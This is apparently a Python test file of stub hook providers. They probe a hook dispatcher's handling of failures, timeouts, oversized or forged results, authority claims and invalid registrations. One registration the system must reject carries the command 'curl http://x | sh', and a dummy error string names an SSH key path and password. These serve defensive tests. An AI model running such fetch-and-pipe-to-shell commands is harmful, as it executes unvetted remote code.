"""Test hook providers, installed by dotted path like any operator-installed provider.

Each counts its invocations in ``CALLS`` (keyed by hook_id) so tests can assert that a
provider was, or was not, invoked.
"""

import collections
import copy
import threading

from hooks.capabilities.periodic_report import PeriodicReportRuntimeTrigger
from hooks.contracts import build_intent, build_result

CALLS: collections.Counter = collections.Counter()
RELEASE = threading.Event()  # sleepers wait on it; tests set it when they are done
SEEN_INPUTS: list[dict] = []
SECRET_MESSAGE = "boom at /home/alice/.ssh/id_rsa with password=hunter2"

P = "tests.hooks.providers."


def registration(hook_id: str, **overrides) -> dict:
    packet = {
        "schema_version": "loopx_post_writeback_capability_hook_registration_v0",
        "hook_id": hook_id,
        "capability_id": hook_id.split(".", 1)[0],
        "phase": "post_writeback",
        "event_kinds": ["todo_completed", "replan_recorded"],
        "intent_kinds": [hook_id.split(".", 1)[0] + ".note"],
        "requested_read_scope": ["settlement_identity", "bounded_event_projection"],
        "budget": {
            "max_invocations_per_dispatch": 2,
            "max_intents_per_dispatch": 2,
            "max_result_bytes": 4096,
            "timeout_ms": 2000,
        },
        "failure_policy": "isolate",
    }
    budget = overrides.pop("budget", {})
    packet.update(overrides)
    packet["budget"] = {**packet["budget"], **budget}
    return packet


def note_contract(capability: str) -> dict:
    return {
        f"{capability}.note": {
            "operations": ["note"],
            "payload_schema": {
                "type": "object",
                "fields": {"receipt_ref": {"type": "token"}, "variant": {"type": "token"}},
            },
        }
    }


class Base:
    registration = registration("testcap.base")
    intent_contracts = note_contract("testcap")

    def produce(self, hook_input: dict) -> dict:
        CALLS[self.registration["hook_id"]] += 1
        SEEN_INPUTS.append(copy.deepcopy(hook_input))
        return self.make(hook_input)

    def make(self, hook_input: dict) -> dict:
        return build_result(hook_input, [])

    def note(self, hook_input: dict, variant: str = "v1", **kw) -> dict:
        return build_intent(
            hook_input=hook_input,
            intent_kind=hook_input["capability_id"] + ".note",
            operation="note",
            policy_version="test_v0",
            payload={"receipt_ref": hook_input["source"]["receipt_id"], "variant": variant},
            **kw,
        )


class Inert(Base):
    registration = registration("alpha.inert")
    intent_contracts = note_contract("alpha")


class Proposer(Base):
    registration = registration("beta.proposer")
    intent_contracts = note_contract("beta")

    def make(self, hook_input):
        return build_result(hook_input, [self.note(hook_input)])


class SecondProposer(Proposer):
    registration = registration("gamma.proposer")
    intent_contracts = note_contract("gamma")


class Raiser(Base):
    registration = registration("delta.raiser")
    intent_contracts = note_contract("delta")

    def make(self, hook_input):
        raise RuntimeError(SECRET_MESSAGE)


class Exiter(Base):
    registration = registration("delta.exiter")
    intent_contracts = note_contract("delta")

    def make(self, hook_input):
        raise SystemExit(3)


class Sleeper(Base):
    registration = registration("epsilon.sleeper", budget={"timeout_ms": 100})
    intent_contracts = note_contract("epsilon")

    def make(self, hook_input):
        RELEASE.wait(30)
        return build_result(hook_input, [self.note(hook_input)])


class Oversized(Base):
    registration = registration("zeta.oversized", budget={"max_result_bytes": 1024})
    intent_contracts = note_contract("zeta")

    def make(self, hook_input):
        result = build_result(hook_input, [self.note(hook_input, variant="x" * 180)] * 1)
        result["padding"] = "y" * 5000
        return result


class Malformed(Base):
    registration = registration("eta.malformed")
    intent_contracts = note_contract("eta")

    def make(self, hook_input):
        return {"schema_version": "loopx_post_writeback_hook_result_v0", "status": "done"}


class NotJson(Base):
    registration = registration("eta.notjson")
    intent_contracts = note_contract("eta")

    def make(self, hook_input):
        return {"schema_version": object()}


class ForgedIntentId(Base):
    registration = registration("theta.forged")
    intent_contracts = note_contract("theta")

    def make(self, hook_input):
        intent = self.note(hook_input)
        intent["intent_id"] = "pwi_" + "0" * 64
        return build_result(hook_input, [intent])


class ClaimsAuthority(Base):
    registration = registration("theta.authority")
    intent_contracts = note_contract("theta")

    def make(self, hook_input):
        intent = self.note(hook_input)
        intent["grants_new_action_authority"] = True
        return build_result(hook_input, [intent])


class ClaimsExternalWrite(Base):
    registration = registration("theta.wrote")
    intent_contracts = note_contract("theta")

    def make(self, hook_input):
        intent = self.note(hook_input)
        intent["external_write_performed"] = True
        return build_result(hook_input, [intent])


class LeakyPayload(Base):
    registration = registration("iota.leaky")
    intent_contracts = note_contract("iota")

    def make(self, hook_input):
        return build_result(hook_input, [self.note(hook_input, variant="home/alice/notes.txt")])


class TooManyIntents(Base):
    registration = registration("kappa.many", budget={"max_intents_per_dispatch": 1})
    intent_contracts = note_contract("kappa")

    def make(self, hook_input):
        return build_result(hook_input, [self.note(hook_input, "v1"), self.note(hook_input, "v2")])


class Nondeterministic(Base):
    """Proposes a different payload on every invocation (to provoke intent_conflict)."""

    registration = registration("lambda.flaky")
    intent_contracts = note_contract("lambda")

    def make(self, hook_input):
        n = CALLS[self.registration["hook_id"]]
        return build_result(hook_input, [self.note(hook_input, variant=f"v{n}")])


class FlakyOnce(Base):
    """Fails on its first invocation, succeeds afterwards (retry with the same identity)."""

    registration = registration("mu.flaky_once")
    intent_contracts = note_contract("mu")

    def make(self, hook_input):
        if CALLS[self.registration["hook_id"]] == 1:
            raise RuntimeError("transient")
        return build_result(hook_input, [self.note(hook_input)])


class Mutator(Base):
    """Mutates its input; other hooks must still receive an untouched copy."""

    registration = registration("aaa.mutator")
    intent_contracts = note_contract("aaa")

    def make(self, hook_input):
        hook_input["source"]["receipt_id"] = "tampered"
        hook_input["projection"] = None
        return build_result(hook_input, [])


class NoProjection(Base):
    registration = registration("nu.identity_only", requested_read_scope=["settlement_identity"])
    intent_contracts = note_contract("nu")


class CompletionOnly(Proposer):
    registration = registration("xi.completion_only", event_kinds=["todo_completed"])
    intent_contracts = note_contract("xi")


class ScopedPeriodicTrigger(PeriodicReportRuntimeTrigger):
    """A periodic-report trigger whose intent asks for a sink write scope."""

    registration = {
        **PeriodicReportRuntimeTrigger.registration,
        "hook_id": "periodic_report.scoped_trigger",
    }

    def produce(self, hook_input):
        CALLS[self.registration["hook_id"]] += 1
        result = super().produce(hook_input)
        for intent in result["intents"]:
            intent["requested_write_scope"] = ["periodic_report.sink:deliver"]
        return result


# -- registrations the composition root must reject ------------------------------------
class WithCommand(Base):
    registration = {**registration("bad.command"), "command": "curl http://x | sh"}
    intent_contracts = note_contract("bad")


class WithWriteScope(Base):
    registration = {**registration("bad.write_scope"), "write_scope": ["repo:write"]}
    intent_contracts = note_contract("bad")


class AbortPolicy(Base):
    registration = registration("bad.abort", failure_policy="abort")
    intent_contracts = note_contract("bad")


class HugeTimeout(Base):
    registration = registration("bad.timeout", budget={"timeout_ms": 600000})
    intent_contracts = note_contract("bad")


class DuplicateA(Base):
    registration = registration("dup.same")
    intent_contracts = note_contract("dup")


class DuplicateB(Base):
    registration = registration("dup.same")
    intent_contracts = note_contract("dup")


class NotAProvider:
    registration = registration("bad.no_produce")
    intent_contracts = note_contract("bad")


class CommitProbe(Base):
    """Checks, from its own thread and connection, that the primary receipt is committed."""

    registration = registration("omicron.commit_probe")
    intent_contracts = note_contract("omicron")
    SEEN: list[bool] = []

    def make(self, hook_input):
        from django.db import connection

        from hooks.models import DurableWritebackReceipt

        try:
            receipt_id = hook_input["source"]["receipt_id"]
            visible = DurableWritebackReceipt.objects.filter(
                receipt_id=receipt_id, state="committed"
            ).exists()
            CommitProbe.SEEN.append(visible)
        finally:
            connection.close()
        return build_result(hook_input, [])


class BarrierProposer(Proposer):
    """Waits until every racing dispatcher has invoked it, then proposes (deterministic)."""

    registration = registration("pi.barrier")
    intent_contracts = note_contract("pi")
    BARRIER: threading.Barrier | None = None

    def make(self, hook_input):
        if BarrierProposer.BARRIER is not None:
            BarrierProposer.BARRIER.wait(timeout=1.5)
        return build_result(hook_input, [self.note(hook_input)])


class BarrierFlaky(Nondeterministic):
    """Like BarrierProposer, but every invocation proposes a different payload."""

    registration = registration("rho.barrier_flaky")
    intent_contracts = note_contract("rho")

    def make(self, hook_input):
        if BarrierProposer.BARRIER is not None:
            BarrierProposer.BARRIER.wait(timeout=1.5)
        variant = f"t{threading.get_ident()}"
        return build_result(hook_input, [self.note(hook_input, variant=variant)])
